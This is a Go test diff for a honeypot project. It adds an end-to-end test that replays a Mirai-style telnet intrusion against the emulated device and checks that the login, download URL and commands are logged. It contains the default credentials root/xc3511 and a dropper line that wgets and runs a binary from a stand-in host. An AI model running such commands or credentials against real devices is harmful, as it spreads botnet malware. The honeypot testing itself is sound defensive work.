@@ -6,11 +6,13 @@ import (
 	"encoding/base64"
 	"encoding/hex"
 	"fmt"
+	"net"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/smallpot/smallpot/internal/event"
 	"github.com/smallpot/smallpot/internal/service"
@@ -203,3 +205,62 @@ func TestEndToEndPOP3WithCurl(t *testing.T) {
 }
 
 func base64Encode(b []byte) string { return base64.StdEncoding.EncodeToString(b) }
+
+// readUntil reads from c until want appears (or 10s pass).
+func readUntil(t *testing.T, c net.Conn, want string) string {
+	t.Helper()
+	_ = c.SetReadDeadline(time.Now().Add(10 * time.Second))
+	var got []byte
+	buf := make([]byte, 1024)
+	for !bytes.Contains(got, []byte(want)) {
+		n, err := c.Read(buf)
+		got = append(got, buf[:n]...)
+		if err != nil {
+			t.Fatalf("waiting for %q: %v; got %q", want, err, got)
+		}
+	}
+	return string(got)
+}
+
+func TestEndToEndTelnetBusyBoxDropper(t *testing.T) {
+	if testing.Short() {
+		t.Skip("end-to-end test builds and runs the binary")
+	}
+	s := startServer(t, "profile: linux-iot\n"+strings.TrimPrefix(onlyServices("telnet"), "sensor: e2e\n"))
+	c, err := net.DialTimeout("tcp", s.addr(23), 5*time.Second)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	readUntil(t, c, "login: ")
+	fmt.Fprintf(c, "root\r\n")
+	readUntil(t, c, "Password: ")
+	fmt.Fprintf(c, "xc3511\r\n")
+	readUntil(t, c, "# ")
+	fmt.Fprintf(c, "enable\r\n")
+	readUntil(t, c, "# ")
+	fmt.Fprintf(c, "cd /tmp; wget http://198.51.100.9/bins/mirai.arm7 -O m; chmod 777 m; ./m telnet.arm7; /bin/busybox ECCHI\r\n")
+	out := readUntil(t, c, "ECCHI: applet not found")
+	_ = out
+	fmt.Fprintf(c, "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01' > .d; chmod +x .d\r\n")
+	readUntil(t, c, "# ")
+	c.Close()
+
+	logins := stoppedEvents(t, s, event.KindLogin)
+	if len(logins) != 1 || logins[0].Detail.(*event.Login).User != "root" || logins[0].Detail.(*event.Login).Password != "xc3511" || !logins[0].Detail.(*event.Login).Success {
+		t.Errorf("login events %+v, want root/xc3511 accepted", logins)
+	}
+	dls := jsonLines[event.Event](t, smallpotCLI(t, "events", "-data", s.data, "-json", "-kind", "download"))
+	if len(dls) != 1 || dls[0].Detail.(*event.Download).URL != "http://198.51.100.9/bins/mirai.arm7" {
+		t.Errorf("download intents %+v, want the wget URL", dls)
+	}
+	cmds := jsonLines[event.Event](t, smallpotCLI(t, "events", "-data", s.data, "-json", "-kind", "command", "-service", "telnet"))
+	found := false
+	for _, e := range cmds {
+		found = found || strings.Contains(e.Detail.(*event.Command).Line, "/bin/busybox ECCHI")
+	}
+	if !found {
+		t.Errorf("no command event for the dropper line among %d", len(cmds))
+	}
+	assertSample(t, s, []byte("\x7fELF\x01\x01\x01"), "echo dropper")
+}
